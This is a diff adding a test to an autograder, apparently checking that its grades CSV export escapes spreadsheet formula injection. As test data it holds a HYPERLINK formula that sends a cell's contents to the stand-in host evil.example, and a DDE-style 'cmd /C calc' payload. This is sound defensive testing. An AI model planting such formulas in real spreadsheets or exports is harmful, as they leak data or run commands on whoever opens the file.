@@ -246,3 +246,29 @@ def test_leaking_submission_through_the_cli(tmp_path):
     assert values and not any(v in visible for v in values)
     assert str(SEED) not in json.dumps(results)
     assert [t["max_score"] for t in results["tests"] if t["visibility"] == "visible"] == [5.0]
+
+
+def test_grades_csv_holds_no_formula_of_the_learner():
+    """A folder name or an exception message is a learner's; opened in a spreadsheet, a cell
+    starting with = + - @ would run as a formula (CSV injection)."""
+    import csv
+    import io
+
+    from autograder.classroom.classfiles import grades_csv
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"100/100")'
+    report = {"max_score": 5.0, "error": "@SUM(1+1)*cmd|' /C calc'!A0\nmore", "exercises": [
+        {"id": "softmax", "score": 1.0, "max_score": 5.0}]}
+    row = {"id": hostile, "submitted_as": "+1-555", "report": report, "parts": {"softmax": 1.0}, "score": 1.0,
+           "late": "", "adjusted": 0.0, "final": 1.0, "status": "graded", "submitted": "", "adjustments": []}
+    cells = [c for line in csv.reader(io.StringIO(grades_csv([row], {"x": report}))) for c in line]
+    assert hostile not in cells and "'" + hostile in cells and "'+1-555" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not _number(c))], cells
+
+
+def _number(text):
+    try:
+        float(text)
+        return True
+    except ValueError:
+        return False
